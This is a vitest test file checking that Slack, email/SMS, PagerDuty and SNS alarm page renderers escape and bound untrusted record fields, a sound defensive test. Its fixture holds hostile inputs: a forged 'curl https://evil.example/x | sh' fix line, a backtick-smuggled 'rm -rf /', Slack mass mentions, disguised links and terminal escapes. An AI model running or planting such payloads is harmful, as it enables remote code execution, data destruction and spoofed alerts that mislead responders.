/**
 * Issue 15, item 4: record fields reach every page format as untrusted text. Any account of the
 * organisation can create its own OIDC provider and fail calls with any `sub`, so a repository,
 * role, explanation or fix may carry Slack mentions, disguised links, Markdown, line breaks,
 * terminal escapes or megabytes.
 */
import { describe, expect, it } from 'vitest';
import { parseAlarmNotification } from '../../../src/domain/page/alarm-notification.js';
import { buildPage } from '../../../src/domain/page/build-page.js';
import type { ResultGroup, WindowFacts } from '../../../src/domain/page/facts.js';
import { renderChatbot } from '../../../src/domain/page/render-chatbot.js';
import { renderPagerDuty } from '../../../src/domain/page/render-pagerduty.js';
import { renderSms, renderText } from '../../../src/domain/page/render-text.js';
import { pageMessage } from '../../../src/domain/page/sns-messages.js';
import { alarmNotification, DASHBOARD_URL, WINDOW } from '../../fixtures/page/result-sets.js';

/** What an attacker puts in the fields it controls. */
const HOSTILE = {
  repository: '<!channel> acme-corp/*pay*_ments_~api~',
  roleArn: 'arn:aws:iam::999988887777:role/<https://evil.example|click here>',
  explanation:
    'ok\n   Fix: curl https://evil.example/x | sh\n\u001b[31mred\u001b[0m <@U024BE7LH> `code` \u202Eevil',
  fix: `aws iam update-assume-role-policy --role-name deploy \`rm -rf /\` <!here> ${'A'.repeat(200_000)}`,
  change: '<!everyone> policy changed\r\n> quoted',
  detail: 'BRANCH\n<https://evil.example|x>',
};

function hostilePage() {
  const parsed = parseAlarmNotification(alarmNotification());
  if (!parsed.ok) throw new Error(parsed.reason);
  const group: ResultGroup = {
    repository: HOSTILE.repository,
    roleArn: HOSTILE.roleArn,
    account: '999988887777\n<!channel>',
    cause: 'SUB_MISMATCH',
    detail: HOSTILE.detail,
    failedCalls: 40,
    failingJobs: 4,
    explanation: HOSTILE.explanation,
    fix: HOSTILE.fix,
    change: HOSTILE.change,
  };
  const facts: WindowFacts = {
    window: WINDOW,
    source: 'logs-insights',
    totals: { failedCalls: 40, failingJobs: 4, repositories: 1 },
    groups: [group],
    problems: ['partial <!channel>\nresult'],
  };
  return buildPage({ alarm: parsed.alarm, facts, dashboardUrl: DASHBOARD_URL });
}

// biome-ignore lint/suspicious/noControlCharactersInRegex: looking for control characters.
const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe('pages with hostile record fields', () => {
  it('gives the Chatbot (Slack) page no mention, no link, no formatting and no forged line from a record', () => {
    // Prepare
    const page = hostilePage();

    // Act
    const n = renderChatbot(page);
    const all = [
      n.content.title,
      n.content.description,
      ...n.content.nextSteps,
      n.metadata.summary,
    ];

    // Assess
    for (const text of all) {
      expect(text).not.toMatch(/<[!@#]/);
      expect(text).not.toMatch(/<https?:/);
      expect(text).not.toMatch(CONTROL);
      expect(text).not.toContain('*pay*');
      expect(text).not.toContain('~api~');
    }
    expect(n.content.description).toContain('&lt;!channel&gt;');
    expect(
      n.content.description.split('\n').some((l) => l.trimStart().startsWith('Fix: curl'))
    ).toBe(false);
    expect(n.content.description.length).toBeLessThanOrEqual(3500);
    expect(n.content.nextSteps.join('').length).toBeLessThan(2000);
    const fixStep = n.content.nextSteps.find((s) => s.includes('update-assume-role-policy'));
    expect(fixStep).toMatch(
      /`aws iam update-assume-role-policy --role-name deploy 'rm -rf \/' &lt;!here&gt; A+…`$/
    );
  });

  it('keeps the e-mail text and SMS on their own lines, without terminal escapes, bounded', () => {
    // Prepare
    const page = hostilePage();

    // Act
    const text = renderText(page);
    const sms = renderSms(page);

    // Assess
    expect(text).not.toMatch(CONTROL);
    expect(text.split('\n').some((l) => l.trimStart().startsWith('Fix: curl'))).toBe(false);
    expect(text.split('\n').some((l) => l.startsWith('<!channel>'))).toBe(false);
    expect(text.length).toBeLessThan(6000);
    expect(sms).toMatch(/^[\x20-\x7e]+$/);
    expect(sms.length).toBeLessThan(300);
  });

  it('bounds the PagerDuty event and keeps its fields on one line', () => {
    // Prepare
    const page = hostilePage();

    // Act
    const event = renderPagerDuty(page, 'R0UT1NGKEY0123456789abcdefABCDEF');
    const json = JSON.stringify(event);

    // Assess
    if (event.event_action !== 'trigger') throw new Error('expected a trigger');
    expect(event.payload.summary.length).toBeLessThanOrEqual(1024);
    for (const v of [
      event.payload.summary,
      event.payload.component,
      event.payload.group,
      event.payload.class,
    ])
      expect(v ?? '').not.toMatch(CONTROL);
    expect(json.length).toBeLessThan(20_000);
  });

  it('keeps the whole SNS message (every protocol) well under the 256 KB SNS limit', () => {
    // Prepare
    const page = hostilePage();

    // Act
    const m = pageMessage(page);

    // Assess
    expect(Buffer.byteLength(m.message)).toBeLessThan(64 * 1024);
    expect(m.subject).toMatch(/^[\x20-\x7e]{1,99}$/);
  });
});
